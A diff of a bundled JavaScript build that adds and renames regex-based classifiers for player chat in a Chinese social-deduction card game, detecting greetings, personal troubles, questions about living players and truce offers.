+	if (YOUR_LUCK.test(text)) return "luck_yours";
+	if (BAD_LUCK.test(text)) return "luck_bad";
+	return GOOD_LUCK.test(text) && !WISHED.test(text) ? "luck_good" : null;
+}
+const HELLO = /大家好|各位.{0,3}好|(?:早上|晚上|下午|中午)好|早安|^(?:嗨|哈[喽啰罗]|hi|hello|hey|yo|heyo|howdy|sup|evening|morning)(?![a-z])|(?:大家|各位|兄弟们|朋友们)(?:早|晚)|\b(?:hello|hi|hey|heyo|evening|morning) (?:all|everyone|everybody|guys|folks|y'?all|there|friends)\b/;
+const MERCY = /手下留情|轻点|下手轻|别(?:欺负|虐|打|集火)|放过|多?(?:关照|担待|指教|包涵)|让着|\b(?:go easy|be (?:gentle|nice|kind)|have mercy|don'?t (?:be mean|bully|target)|easy on me)\b/;
+const LUCK_WISHED = /好运|手气(?:都)?(?:好|爆)|玩得(?:开心|愉快)|旗开|\b(?:good luck|gl(?:hf)?|have fun|hf|best of luck)\b/;
+function greetingIn(text) {
+	if (!HELLO.test(text)) return null;
+	return MERCY.test(text) ? "greet_mercy" : LUCK_WISHED.test(text) ? "greet_luck" : null;
+}
+
+// src/chatter/moves/life/trouble.ts
+function troubleIn(parts, moment) {
+	const quiet = parts.flatMap((part, i) => speaksOfSeat(part, moment) ? [] : [i]);
+	const text = quiet.map((i) => uncalled(parts[i] ?? NONE2)).join(",");
+	const found = matterIn(text);
+	if (!found?.trouble || FIGURE.test(text) || whoseIn(text) === null && heroesNamed(text).length > 0) return null;
+	const own = quiet.filter((i) => {
+		const part = parts[i];
+		if (!part) return false;
+		const here = matterIn(part.text);
+		return !namesGame(here ? without2(part.text, here) : part.text);
+	});
+	const told = own.map((i) => uncalled(parts[i] ?? NONE2)).join(",");
+	const again = matterIn(told);
+	if (!again?.trouble || own.every((i) => isOfHearer(parts[i] ?? NONE2))) return null;
+	const whose = whoseIn(told);
+	const others = whose !== null && EITHERS.has(again.matter) && befalls(told, again);
+	const [first = 0] = own;
+	if (first > 0 && own.length < parts.length && whose === null) return null;
+	if (whose === null && own.some((i) => parts[i]?.asked === true) && !/我|\b(?:i|i'm|im|my|me)\b/.test(told))
+		return null;
+	return {
+		life: { matter: again.matter, trouble: true, ...whose ? { whose } : {}, ...others ? { others } : {} },
+		act: "sorrow",
+		topic: again.topic,
+		parts: own
+	};
+}
+const EITHERS = new Set([
+	"exam_coming",
+	"exam_failed",
+	"thesis",
+	"interview",
+	"waiting",
+	"laid_off",
+	"turned_down",
+	"scammed",
+	"lost_money",
+	"debt",
+	"breakup",
+	"cheated",
+	"hurt",
+	"sick",
+	"surgery",
+	"checkup",
+	"mind"
+]);
+const befalls = (text, { matter, start, end }) => {
+	const before = text.slice(Math.max(0, start - 24), start);
+	const close = whoseIn(`${before}${text.slice(start, end)}`);
+	if (close === null || close.closeness === "partner" && (matter === "breakup" || matter === "cheated")) return false;
+	return !/(?:我|咱|\b(?:i|i'm|im|me|my)\b)(?![^,]*(?:妈|爸|爷|奶|哥|姐|弟|妹|儿|女|闺|孩|娃|朋友|mom|mum|dad|brother|sister|son|daughter|kid|friend|cousin|aunt|uncle|grand\w+))/.test(
+		before
+	);
+};
+const FIGURE = /的感觉|(?:这|我这|简直)叫|属于是|(?:跟|像|好比).{1,10}(?:一样|似的|一般)|一样稳/;
+
+// src/chatter/moves/life/hear.ts
+function goneOn(plain, text, { confided }) {
+	const before = confided?.asked.life;
+	if (confided === null || before === void 0 || !isConfided(before) || mayBeGame(text)) return null;
+	const on = goesOnIn(plain, confided.asked.topic);
+	return on === null ? null : { before, confided, on };
+}
+const isSame2 = (fresh, { before, on }) => fresh.topic === topicOfMatter(before.matter) && fresh.life.whose === void 0 && (before.whose !== void 0 || on !== "more");
+const ofChat = ({ matter, topic }, plain, parts) => {
+	const whose = whoseIn(plain);
+	return { life: { matter, trouble: false, ...whose ? { whose } : {} }, act: "topic", topic, parts };
+};
+function lifeIn(parts, text, moment) {
+	const all = parts.map((_, i) => i);
+	const plain = parts.map(uncalled).join(",");
+	const last = moment.confided?.asked.life?.matter;
+	const joke = jokeIn(plain, last?.startsWith("joke") === true);
+	if (joke !== null && !namesGame(plain)) return of2(joke, "other", "topic", all);
+	const self = selfIn(plain);
+	if (self !== null && (self === "cheat" || !namesGame(plain))) return of2(`self:${self}`, "self", "ask_self", all);
+	const hero = heroIn(parts, plain, moment);
+	if (hero !== null) return of2(`hero:${hero}`, "heroes", "topic", all);
+	const spoken = parts.some((part) => speaksOfSeat(part, moment));
+	const greeting = spoken ? null : greetingIn(plain);
+	if (greeting !== null) return of2(greeting, "other", "greet", all);
+	const gone = spoken ? null : goneOn(plain, text, moment);
+	const trouble = troubleIn(parts, moment);
+	if (trouble && !(gone && isSame2(trouble, gone))) return trouble;
+	const luck = spoken ? null : luckIn(plain);
+	if (luck !== null && !DEED4.test(plain)) return of2(luck, "luck", "topic", all);
+	const chat = spoken ? null : matterIn(plain);
+	if (chat && !(gone && PASSING.has(chat.matter)) && isChat(chat, plain, parts)) return ofChat(chat, plain, all);
+	if (!gone) return null;
+	const { before, confided, on } = gone;
+	return {
+		life: { ...before, on },
+		act: before.trouble ? "sorrow" : "topic",
+		topic: topicOfMatter(before.matter) ?? "other",
+		parts: all,
+		refersTo: confided.id
+	};
+}
+const isChat = (chat, plain, parts) => !chat.trouble && !mayBeGame(without2(plain, chat).replace(AFTER_GAME, " ")) && !AWAY.test(plain) && !STAKE.test(plain) && !parts.some(isOfHearerAlone);
+const PASSING = new Set([
+	"late",
+	"food",
+	"family",
+	"work",
+	"study",
+	"news",
+	"shows",
+	"pets",
+	"travel",
+	"sport"
+]);
+const isOfHearerAlone = (part) => isOfHearer(part) && !/[?吗呢么]|们|\byou (?:all|guys)\b|\bwhat\b/.test(part.text);
+const DEED4 = /[砍打杀救](?:了|到|中)|被.{0,4}(?:拆|砍|打|杀|顺|乐)|\b(?:hit|killed|saved|stole)\b/;
+const AFTER_GAME = /打完(?:这|这一)?[把局盘]?|(?:这|这一)[把局盘](?:打|完|结束)(?:完|了)?|\bafter this (?:game|one|round)\b/g;
+const STAKE = /赌|输(?:了)?的|请(?:你|各位|全|大家)|罚|\b(?:loser|bets?|buys?|owe|on the line|pays?)\b/;
+const AWAY = /(?:喊|叫)我(?:吃|回|去|洗|睡|收|拿|接)|(?:外卖|快递|奶茶).{0,2}到了|(?:拿|取|接|倒)(?:个|下|一下)?(?:外卖|快递|电话|水)|马上(?:就)?回|等(?:我|下我)|厕所|键盘|[踩碰]|\b(?:brb|afk|doorbell|back in)\b/;
+function heroIn(parts, text, moment) {
+	const named = heroesNamed(text);
+	const kind = heroKindIn(text, named);
+	if (kind === null) return null;
+	if (kind === "compare" && named.length > 1) return OF_PLAY.test(text) ? null : kind;
+	const bare = withoutHeroes(text).replace(/忠(?:义|心|诚|厚)|武将|英雄/g, " ");
+	const game = named.length > 0 ? mayBeGame(bare.replace(/\bthis game\b/g, " ")) : namesGame(bare);
+	return game || parts.some((part) => speaksOfSeat(part, moment)) ? null : kind;
+}
+const OF_PLAY = /反贼|内奸|忠臣|是[反忠内]|一伙|先(?:打|杀|砍)|集火|可疑|\b(?:rebels?|spy|loyalist|traitor|suspicious)\b/;
+
 // src/chatter/moves/promise.ts
 const DEAL = /(?:你|您|阁下|你们)(?:要是|如果|只要|先)?(?:别|不|也别|保证不|放过)(?:再|去|来)?(?:打|动|杀|拆|碰|砍|惹|集火|点|弄|搞|收)?我[^.!?]{0,8}我(?:也|就|便|保证|肯定|绝对?|一定|[下这本]一?(?:轮|回合))*(?:不|别|放过)(?:会|再|去)*(?:打|动|杀|拆|碰|砍|惹|集火|点|弄|搞)?你|我(?:也|就|保证)?不(?:会|再)?(?:打|动|杀|拆|碰|砍)你[^.!?]{0,6}你(?:也|就|可)?(?:别|不)(?:要|再|能)?(?:打|动|杀|拆|碰|砍)我|\b(?:if|as long as|so long as) you (?:don't|dont|do not|won't|leave|spare|stop)[^.!?]{0,30}\bi(?: will not|'ll not| won't| wont| don't| dont|'ll leave|'ll spare| will (?:leave|spare))|\byou (?:don't|dont) (?:attack|hit|touch) me,? (?:and )?i (?:don't|dont|won't) (?:attack|hit|touch) you|\bi (?:won't|wont|will not) (?:attack|hit|touch|kill|hurt) you (?:if|as long as) you/;
 const HELP_DEAL = /(?:你|您)(?:要是|如果|只要|先)?(?:帮|救|保|给)我[^.!?]{0,8}我(?:也|就|便|会)*(?:帮|救|保|护|给)你|我(?:帮|救|保)你[^.!?]{0,4}你(?:帮|救|保)我|\bif you (?:help|save|protect) me[^.!?]{0,20}\bi(?:'ll| will) (?:help|save|protect) you|\bi(?:'ll| will) (?:help|save|protect) you if you/;
-const GIVES = /我(?:就|也|便|会|可以|保证|肯定|绝对|一定|[下这本]一?个?(?:轮|回合))*(?:不(?:会|再)*(?:打|动|碰|砍|杀|惹)你|(?:帮|救|保|护|给|奶|让|送)(?:你|您)(?![打杀砍拆收干])|把.{1,6}给你)|\bi(?:'?ll| will| can| promise to|'?m gonna|mma) (?:\w+ )?(?:hand|give|pass|feed|heal|save|help|protect|cover|spare|leave|back)\b.{0,20}\b(?:you|u|ya)\b/;
+const GIVES2 = /我(?:就|也|便|会|可以|保证|肯定|绝对|一定|[下这本]一?个?(?:轮|回合))*(?:不(?:会|再)*(?:打|动|碰|砍|杀|惹)你|(?:帮|救|保|护|给|奶|让|送)(?:你|您)(?![打杀砍拆收干])|把.{1,6}给你)|\bi(?:'?ll| will| can| promise to|'?m gonna|mma) (?:\w+ )?(?:hand|give|pass|feed|heal|save|help|protect|cover|spare|leave|back)\b.{0,20}\b(?:you|u|ya)\b/;
 function paidFor(text) {
 	const begged = SPARE.exec(text);
-	return begged !== null && GIVES.test(text.slice(begged.index + begged[0].length));
+	return begged !== null && GIVES2.test(text.slice(begged.index + begged[0].length));
 }
 function dealIn(text, from, you) {
 	const spare = DEAL.test(text) || paidFor(text);
@@ -29844,7 +31061,8 @@ function whoDidIt(clause) {
 	const { at } = clause;
 	const last = at.moment.exchanges[0];
 	const before = last?.asked.facts?.find(({ to: to2 }) => to2 !== void 0);
-	const to = at.befell ?? clause.other ?? at.spokenOf ?? before?.to;
+	const named = at.mentions.find(({ kind, seat }) => kind === "seat" && seat !== null)?.seat;
+	const to = at.befell ?? named ?? clause.other ?? at.spokenOf ?? before?.to;
 	if (to === void 0) return null;
 	const deed = deedLike(to === before?.to ? before.kind : "hit", "asked", to);
 	return clause.move("ask_fact", {
@@ -29879,6 +31097,48 @@ function itWas(clause) {
 	});
 }
 
+// src/chatter/moves/heads.ts
+const ROLE_ZH3 = "(?:忠臣?|反贼?|内奸?)";
+const ROLE_EN3 = "(?:loyal(?:ist)?s?|rebels?|rebs?|traitors?|spy|spies|renegades?)";
+const NUMBER2 = "(?:[一二两俩三仨四五六\\d]+)";
+const END3 = "(?=$|[,.!?啊呀吧呢了])";
+const LIVING = new RegExp(
+	[
+		`(?:还|现在|场上|桌上)?(?:都)?(?:有|剩下?)?(?:谁|哪几个|哪些人?)(?:还)?(?:都)?(?:活着|在场|在桌上|没死|存活)`,
+		`(?:场上|桌上|现在)(?:还)?(?:剩下?|有)(?:谁|哪几个|哪些人?)${END3}`,
+		`活着的(?:都)?(?:有|还有|是)(?:谁|哪)`,
+		"\\bwho(?:'s|s| is| else is| all is)? (?:still )?(?:alive|standing|in (?:the|this) game|in play)\\b",
+		"\\bwho(?:'s|s| is| else is)? (?:still )?left\\b(?! (?:the game|us))"
+	].join("|")
+);
+const DEAD = new RegExp(
+	[
+		`(?:有(?:没有)?|没)(?:人|谁)(?:死|阵亡|出局|挂|倒|没)(?:了|掉)?(?:吗|么|没有?)?${END3}`,
+		`死(?:过|了)?人(?:了)?(?:吗|么|没有?)${END3}`,
+		`(?:都|已经|目前)?死了?(?:谁|哪几个|哪些)`,
+		`(?:谁|哪几个|哪些人?)(?:已经|都)?(?:死了|没了|阵亡了?|出局了?|挂了)${END3}`,
+		"\\b(?:has|did|is) any(?:one|body) (?:died?|dead|been killed|out)\\b",
+		"\\bany(?:one|body) (?:dead|died|out)(?: yet| so far)?\\b",
+		"\\bwho(?:'s|s| is| has)? (?:already )?(?:dead|died)\\b"
+	].join("|")
+);
+const OF_ROLE = new RegExp(
+	[
+		`(?:是不是|是否)(?:还|就|只)?(?:有|剩)(?:下|了)?${NUMBER2}个?${ROLE_ZH3}`,
+		`(?:还|就|只)(?:有|剩)(?:下|了)?${NUMBER2}个?${ROLE_ZH3}(?:活着|在场?|没死)?(?:吗|么|吧|对吧|是吧)`,
+		`${ROLE_ZH3}(?:还|都|全|全都|已经)*(?:活着|在场|死了|没了|死光|死完|死绝|清完|清光|死透|出局)(?:了)?(?:吗|么|没有?|不|吧)${END3}`,
+		`${ROLE_ZH3}(?:还)?(?:在不在|在吗|在么|死没死|活没活)`,
+		`(?:还有没有|有没有|还有)${ROLE_ZH3}(?:剩|活着|在|了)*(?:吗|么|没有?|啊)?${END3}(?<=吗|么|没|有|活着|啊|${ROLE_ZH3})`,
+		`\\b(?:is|are) (?:the |all |both |any )?(?:the )?${ROLE_EN3} (?:still )?(?:alive|dead|left|out|gone)\\b`,
+		`\\b(?:any|(?:are|is) there (?:any|still)(?: an?)?(?: more)?) ${ROLE_EN3}(?: still)?(?: left| alive)?(?=$|[?.!,])`
+	].join("|")
+);
+function headsAsked(text, asked) {
+	if (LIVING.test(text)) return "living";
+	if (asked && DEAD.test(text)) return "dead";
+	return OF_ROLE.test(text) && (asked || /(?:没|不|吗|么|吧)$/.test(text)) ? "role" : null;
+}
+
 // src/chatter/moves/asking.ts
 function roleAsked({ at, text }) {
 	const [said] = at.said;
@@ -29906,11 +31166,22 @@ function asking(clause) {
 	const holder = clause.about ?? (clause.selfNamed || spokenOf(clause) === void 0 ? clause.from : spokenOf(clause));
 	if (clause.has(IN_HAND) && holder !== void 0 && !clause.at.mentions.some(({ kind }) => kind === "who"))
 		return [clause.move(at.asked || clause.has(/(?:没有?|吗|么)$/) ? "ask_fact" : "report", { about: holder })];
-	if (clause.has(SPARE)) return [clause.move("plead", { about: clause.from })];
-	if (clause.has(SELF_ASKED))
-		return [clause.move("ask_self", { topic: "self", about: clause.hearer ?? void 0 })];
+	if (clause.has(SPARE) && !clause.has(/说(?:了|过|好)(?:的)?(?:别|不)/))
+		return [clause.move("plead", { about: clause.from })];
+	const self = selfIn(text);
+	if (self !== null)
+		return [
+			clause.move("ask_self", {
+				topic: "self",
+				about: clause.hearer ?? void 0,
+				life: { matter: `self:${self}`, trouble: false }
+			})
+		];
 	if (asked && clause.has(FALLEN) && at.mentions.every(({ kind }) => kind !== "seat" && kind !== "who") && roleAsked(clause))
 		return [clause.move("ask_count", { role: roleAsked(clause) })];
+	const heads = headsAsked(text, asked || clause.has(/(?:没|不)$/));
+	if (heads !== null && at.mentions.every(({ kind }) => kind !== "seat"))
+		return [clause.move("ask_count", heads === "role" ? { role: roleAsked(clause) } : {})];
 	const counts = (asked || clause.has(COUNTED_UP)) && clause.has(COUNT);
 	if ((counts || clause.has(NONE_DEAD)) && !clause.has(COUNT_NOT))
 		return [clause.move("ask_count", { role: rolesCounted(text) > 1 ? void 0 : roleAsked(clause) })];
@@ -29919,7 +31190,7 @@ function asking(clause) {
 	if (clause.has(BEGS)) return [clause.move("plead", { about: clause.from })];
 	if (clause.has(ROLE_WANTED) && !clause.selfNamed)
 		return [clause.move("ask_role", { about: clause.other ?? clause.hearer ?? void 0 })];
-	if (clause.has(HELP) && !clause.has(NO_PLEA) && !clause.has(THANKS) && !clause.has(WHY) && !isTold2(clause))
+	if (clause.has(HELP) && !clause.has(NO_PLEA) && !clause.has(THANKS) && !clause.has(WHY) && !isTold5(clause))
 		return [
 			clause.move("plead", {
 				about: clause.has(/我(?!们)|\b(?:me|my)\b/) || clause.other === void 0 ? lordOrSelf(clause) : clause.other
@@ -29945,8 +31216,10 @@ function asking(clause) {
 	if (whoDid) return [whoDid];
 	if (clause.has(SKILL_ASKED) && !clause.has(/你/) && skillsIn(text, at.moment.scene).length > 0)
 		return [clause.move("ask_rule")];
-	if (asked && clause.has(RULE))
-		return [clause.move("ask_rule", topicOf(text) === "heroes" ? { topic: "heroes" } : {})];
+	const ofCardAlone = cardsIn(text).length > 0 && at.mentions.every(({ kind }) => kind === "self" && /自己/.test(text));
+	if (ofCardAlone && clause.has(/(?:什么|啥)(?:意思|用|效果)|(?:有|图|为)(?:什么|啥)(?:用|好处)?$|\bwhat does .{1,24} (?:do|mean)\b/))
+		return [clause.move("ask_rule")];
+	if (asked && clause.has(RULE)) return [clause.move("ask_rule")];
 	if (asked && clause.has(SURE) && clause.deeds.some(({ by, past: past2 }) => past2 && by === clause.hearer))
 		return [why(clause)];
 	if ((asked || clause.has(DOUBTS)) && clause.has(SURE) && !clause.has(WHY))
@@ -29964,6 +31237,9 @@ function asking(clause) {
 				role: clause.other === void 0 ? refer(clause).role : roleAsked(clause)
 			})
 		];
+	if (clause.has(AGREED) && clause.deeds.length === 0 && clause.lately !== void 0 && clause.lately !== clause.hearer)
+		return [clause.move("ask_guess", { about: clause.lately, refersTo: at.moment.exchanges[0]?.id })];
+	if (HOW_TO_PLAY.test(text)) return [clause.move("ask_plan", { about: clause.other })];
 	if (clause.has(WHY) && !clause.has(NOT_ASKED) && !isOutside(clause) || clause.has(/(?:咋|怎么)想的|有.{0,4}仇/) && doneByHearer(clause))
 		return [why(clause)];
 	if (!asked) return null;
@@ -29994,14 +31270,15 @@ function asking(clause) {
 	if (role || guess) {
 		const own = at.said[0]?.about === clause.from && at.mentions.every(({ kind }) => kind !== "self");
 		const said = (own ? void 0 : at.said[0]?.about) ?? him?.about;
-		const self = said === clause.from || said === void 0 && clause.selfNamed && clause.other === void 0 && clause.has(
+		const self2 = said === clause.from || // "张春华你说3号像反吗", by 3 itself.
+		said === void 0 && at.mentions.some(({ kind, seat, called }) => kind === "seat" && seat === clause.from && !called) || said === void 0 && clause.selfNamed && clause.other === void 0 && clause.has(
 			/我(?:是|算)?(?:啥|什么|何|哪)(?:身份|边|头)|我的身份|怀疑我|觉得我|防着我|我(?:像|是|不是|可信)|信(?:不信|得过|任|不过)?我|\b(?:am i|trust me|believe me|i'm|suspect me)\b/
 		);
 		const who = at.mentions.some(({ kind }) => kind === "who");
-		const about = self ? clause.from : who && clause.other === void 0 ? void 0 : said ?? clause.other ?? (guess && !role ? hiddenOne(clause) : void 0);
+		const about = self2 ? clause.from : who && clause.other === void 0 ? void 0 : said ?? clause.other ?? (guess && !role ? hiddenOne(clause) : void 0);
 		const open = about !== void 0 && about !== clause.hearer && isOpen5(clause, about);
 		const ofHearer = about === clause.hearer || open && role && clause.hearer !== null && clause.youNamed && !isOpen5(clause, clause.hearer) || about === void 0 && !who && role && !(guess && !clause.has(/身份|哪边|\byour role/));
-		if (ofHearer && !self && role)
+		if (ofHearer && !self2 && role)
 			return [clause.move("ask_role", { about: clause.hearer ?? about ?? spokenOf(clause), role: roleAsked(clause) })];
 		return [clause.move("ask_guess", { about: about ?? void 0, role: roleAsked(clause) })];
 	}
@@ -30017,6 +31294,8 @@ function asking(clause) {
 const seeksCompany = (clause) => clause.has(COMPANY) && !clause.has(WHY) && clause.deeds.every(
 	({ by, to, past }) => !past && to !== clause.from && (typeof by !== "number" || by === clause.from || by === clause.hearer)
 );
+const AGREED = /\b(?:you|u|ya) agree\b|你(?:也)?(?:同意|赞成|这么(?:看|想|觉得))(?:吗|么|不|吧)?$/;
+const HOW_TO_PLAY = /^(?:那|你)?(?:咋|怎么|咋个)(?:打|办|出牌?)(?:啊|呢|呀)?$/;
 const YET_TO_COME = /下|接下来|待会|等会|然后|\bnext\b/;
 const isOpen5 = ({ at }, seat) => at.moment.scene.table.bySeat.get(seat)?.revealed != null;
 function hiddenOne(clause) {
@@ -30029,7 +31308,7 @@ const rolesCounted = (text) => [/反|rebel/, /忠|loyal/, /内|traitor/].filter(
 const isDone = (deed, { hearer, at }) => (deed.by === hearer && at.asked || deed.by === "asked") && typeof deed.to === "number" && reportOf(deed, at.moment.scene).verdict === "true";
 const ownBlows = (clause, to) => clause.deeds.filter(({ verb }) => verb === "attack" || verb === "strike" || verb === "discard" || verb === "steal").slice(0, 1).map((deed) => ({ ...deed, by: clause.from, to, denied: false, hurt: false }));
 const spokenOf = ({ at }) => at.spokenOf ?? void 0;
-const isTold2 = ({ deeds, asked, hearer }) => deeds.some(
+const isTold5 = ({ deeds, asked, hearer }) => deeds.some(
 	(deed) => told4(deed) || deed.by === "asked" || typeof deed.by === "number" && deed.by !== hearer && !asked
 );
 const lordOrSelf = ({ text, from, at }) => /主公|救主|救驾|护驾|\blord\b/.test(text) && !/救我|救命|\b(?:save|help) me\b/.test(text) ? at.moment.scene.table.lord : (
@@ -30089,10 +31368,12 @@ const KIN = [
 ];
 const kin = (a, b) => a === b || KIN.some((row) => row.includes(a) && row.includes(b));
 const JUDGES = new Set(["accuse", "vouch"]);
-const ranked = (likely) => [...ACTS].sort((a, b) => likely[b] - likely[a]);
-const rests = ({ facts = [], promise }) => promise !== void 0 || facts.some(({ verdict }) => verdict === "true");
+const ranked = (likely) => ACTS.filter((act) => act !== "ask_self").sort((a, b) => likely[b] - likely[a]);
+const isTold6 = ({ by, to, card, kind }) => by !== void 0 && to !== void 0 && by !== to && (kind === "rescue" || card !== void 0 && (kind === "aimed" || kind === "hit"));
+const rests = ({ facts = [], promise }) => promise !== void 0 || facts.some((fact) => fact.verdict === "true" || isTold6(fact));
 function settle3(heard, weighed, clause) {
-	if (heard.length === 0 || heard.some(({ refersTo }) => refersTo !== void 0)) return [...heard];
+	if (heard.length === 0 || heard.some(({ refersTo, life }) => refersTo !== void 0 || life !== void 0))
+		return [...heard];
 	const likely = weighed();
 	const clear = heard.filter(({ act }) => act !== "unclear");
 	const [first = "unclear", second = "unclear"] = ranked(likely);
@@ -30222,7 +31503,7 @@ function nearly(clause) {
 		const both = named.size > 1 ? named.has(by) && to !== null && named.has(to) : undergoes || named.has(by);
 		if (!both) return false;
 		if (cards.length === 0) return good === !harm;
-		return cards.some((one) => one.card === "wuxie" ? kind === "wuxie" : isSame2(scene, one.card, card));
+		return cards.some((one) => one.card === "wuxie" ? kind === "wuxie" : isSame3(scene, one.card, card));
 	});
 	if (!found || found.by === null) return null;
 	const fact = {
@@ -30237,7 +31518,7 @@ function nearly(clause) {
 	const act = !clause.asked ? "report" : found.by === hearer ? "ask_why" : "ask_fact";
 	return [clause.move(act, { about: found.by, facts: [fact] })];
 }
-const isSame2 = ({ named }, one, other) => other !== null && (one === other || named(one) === named(other));
+const isSame3 = ({ named }, one, other) => other !== null && (one === other || named(one) === named(other));
 function judging(clause) {
 	const { at, from, asked } = clause;
 	const found = [];
@@ -30347,7 +31628,7 @@ const objectOf = ({ deeds, at, hearer }) => deeds.map(({ to }) => seatOf2(to)).f
 function telling(clause) {
 	if (clause.asked) return null;
 	const deeds = clause.deeds.filter(
-		(deed) => (deed.past || deed.denied || isOver2(deed, clause) || isTold3(deed, clause)) && (deed.by !== "open" || deed.to !== "open")
+		(deed) => (deed.past || deed.denied || isOver3(deed, clause) || isTold7(deed, clause)) && (deed.by !== "open" || deed.to !== "open")
 	);
 	const announced = deeds.length === 1 ? announcedIn(clause, deeds[0]) : null;
 	if (announced) return [announced];
@@ -30362,8 +31643,8 @@ function telling(clause) {
 	return [clause.move(act, fields)];
 }
 const holder = (clause) => clause.other ?? (clause.selfNamed ? clause.from : clause.youNamed ? clause.hearer ?? void 0 : void 0);
-const isOver2 = ({ verb, to }, { at }) => (verb === "kill" || verb === "strike") && typeof to === "number" && at.moment.scene.table.bySeat.get(to)?.alive === false;
-const isTold3 = ({ by, to, start, end }, { from, asked, text, at, hearer }) => !asked && !(at.offered === true && (by === from || by === hearer)) && // "主公这轮弄8": what is still to be done.
+const isOver3 = ({ verb, to }, { at }) => (verb === "kill" || verb === "strike") && typeof to === "number" && at.moment.scene.table.bySeat.get(to)?.alive === false;
+const isTold7 = ({ by, to, start, end }, { from, asked, text, at, hearer }) => !asked && !(at.offered === true && (by === from || by === hearer)) && // "主公这轮弄8": what is still to be done.
 !(/这(?:一)?(?:轮|回合|圈)|本回合|下(?:一)?(?:刀|手)/.test(text.slice(0, start)) && !/[了过]/.test(text.slice(end))) && !SUPPOSED2.test(text) && !FORETOLD.test(text) && !/别|不要|不许|不准|休想|倒是|给我|[替帮]我|快|赶紧/.test(text.slice(0, start)) && typeof by === "number" && typeof to === "number" && (to === from || by !== from) && by !== to;
 const ofOthers = ({ at, youNamed, selfNamed, other }) => !selfNamed && (youNamed || other !== void 0 || /你们?俩|你们/.test(at.text));
 const BRIEF = 4;
@@ -30453,6 +31734,20 @@ function movesIn(line, moment) {
 	);
 	return dark !== null && settled.every(({ act }) => act === "unclear") ? [loosely(dark)] : settled;
 }
+const ofLife = ({ life, act, topic, refersTo }, { from, you, span }) => ({
+	act,
+	...act === "sorrow" ? { about: from } : act === "ask_self" && you !== null ? { about: you } : {},
+	topic,
+	life,
+	...refersTo === void 0 ? {} : { refersTo },
+	span
+});
+function isPutTo2(parts) {
+	const [first, ...rest] = parts;
+	return first !== void 0 && rest.length > 0 && first.mentions.length > 0 && first.mentions.every(
+		({ kind, start, called }) => kind === "seat" && !called && DONE_TO.test(first.text.slice(0, start))
+	);
+}
 function heardIn(line, moment) {
 	const { scene, from, hearer, exchanges = [] } = moment;
 	const text = line.verbatim.slice(0, LONGEST_READ3);
@@ -30466,21 +31761,31 @@ function heardIn(line, moment) {
 	const mentions = namedIn(text, parts, { scene, from, hearer, he });
 	const called = mentions.find((one) => one.called && one.seat !== from)?.seat ?? null;
 	const you = called ?? hearer;
+	const owned = parts.map((part) => ({
+		text: part.text,
+		asked: part.asked,
+		mentions: mentions.filter(({ start }) => within4(start, part)).map((one) => ({ ...one, start: one.start - part.start, end: one.end - part.start }))
+	}));
+	const life = lifeIn(owned, text, { from, hearer: you, confided: moment.confided ?? null });
 	const deal = dealIn(text, from, you);
 	const naming = { scene, speaker: from, you };
 	const claims = claimsIn(line, naming);
 	const said = parts.length > 0 ? saidIn(line, naming) : [];
 	const moves = [];
-	let carried = "open";
+	let carried = called !== null && isPutTo2(owned) ? called : "open";
 	let afterDeed = false;
 	let spokenOf = null;
 	let dark = null;
 	let told = [];
 	let befell = null;
-	for (const part of parts) {
+	for (const [i, part] of parts.entries()) {
+		if (life?.parts.includes(i) === true && !asksOn(part.text, { exchanges, scene })) {
+			if (life.parts[0] === i) moves.push(ofLife(life, { from, you, span: rawSpan2(line, part.start, part.end) }));
+			continue;
+		}
 		if (parts.length > 1 && INTERJECTION.test(part.text.trim())) continue;
 		const span2 = rawSpan2(line, part.start, part.end);
-		const own = mentions.filter(({ start }) => within4(start, part)).map((one) => ({ ...one, start: one.start - part.start, end: one.end - part.start }));
+		const own = owned[i]?.mentions ?? [];
 		if (own.length > 0 && own.every((one) => one.called) && bare5(part.text, own)) {
 			carried = called ?? carried;
 			continue;
@@ -30528,7 +31833,7 @@ function heardIn(line, moment) {
 		moment: { scene, from, hearer: you, exchanges }
 	};
 	if (SELF_CORRECTED.test(text)) moves.splice(0, moves.length, ...moves.filter(({ act }) => act !== "apology"));
-	const found = deal ? [...moves.filter(({ act }) => BESIDE_DEAL.has(act)), { ...deal, span }] : moves;
+	const found = deal && !life ? [...moves.filter(({ act }) => BESIDE_DEAL.has(act)), { ...deal, span }] : moves;
 	return { moves: tidy(found), mentions, whole, dark };
 }
 function reallyAsks(line, moment) {
@@ -30554,26 +31859,34 @@ function tidy(moves) {
 	return clear.length > 0 ? clear : kept.slice(0, 1);
 }
 
-// src/chatter/flow/address.ts
-const OFFICE = /^(?:主公?|主帅|老大|老板|大王|陛下|皇上|圣上|(?:the |my |our )?lord|boss|your majesty|my (?:liege|king))$/;
+// src/chatter/flow/pointed.ts
+const OFFICE3 = /^(?:主公?|主帅|老大|老板|大王|陛下|皇上|圣上|(?:the |my |our )?lord|boss|your majesty|my (?:liege|king))$/;
 function pointersIn(line, scene, from, hearer) {
 	const { text, mentions } = namedInLine(line, { scene, from, hearer, he: null });
+	const calls = callsIn(text, mentions);
 	const pointers = mentions.flatMap(
 		({ kind, seat, start, end }) => kind !== "seat" || seat === null ? [] : [
 			{
 				seat,
 				start,
 				end,
-				...OFFICE.test(text.slice(start, end)) ? { office: true } : {},
-				...scene.table.bySeat.get(seat)?.alive === false ? { dead: true } : {}
+				...OFFICE3.test(text.slice(start, end)) ? { office: true } : {},
+				...scene.table.bySeat.get(seat)?.alive === false ? { dead: true } : {},
+				...calls.called.has(start) ? { called: true } : {},
+				...calls.about.has(start) ? { about: true } : {}
 			}
 		]
 	);
 	return { text, pointers };
 }
+const BEGINS2 = /(?:^|[,.!?;:…~]|[\u3400-\u9fff]\s)\s*$/;
+const YOU7 = /你(?!们)|您|妳|阁下|\b(?:you|u|your|youre|ur|ya)\b/;
+const saysYou = ({ text }) => YOU7.test(text);
+
+// src/chatter/flow/called-upon.ts
 const CALL_BEFORE2 = /^(?:@|喂|嘿|嗨|哎|诶|欸|那个|请问|请|谢谢|多谢|对不起|抱歉|不好意思|你好|hey|hi|hello|yo|oi|thanks|thank you|ty|thx|sorry|my bad|please|卧槽|我靠|不是|哇|好家伙|所以|那么?|话说|其实|不过|但是|而且|gg|lol|wtf|omg|wow|damn|bruh|ugh|nah|wait|hang on|hold on|哈{2,}|(?:(?:ok|okay|fine|well|so|now|and|then|alright|all right|wait|relax|chill|come on|look|listen|dude|bro|man)[\s,]+)*(?:ok|okay|fine|well|so|now|and|then|alright|all right|wait|relax|chill|come on|look|listen|dude|bro|man))?[\s,:]*@?$/;
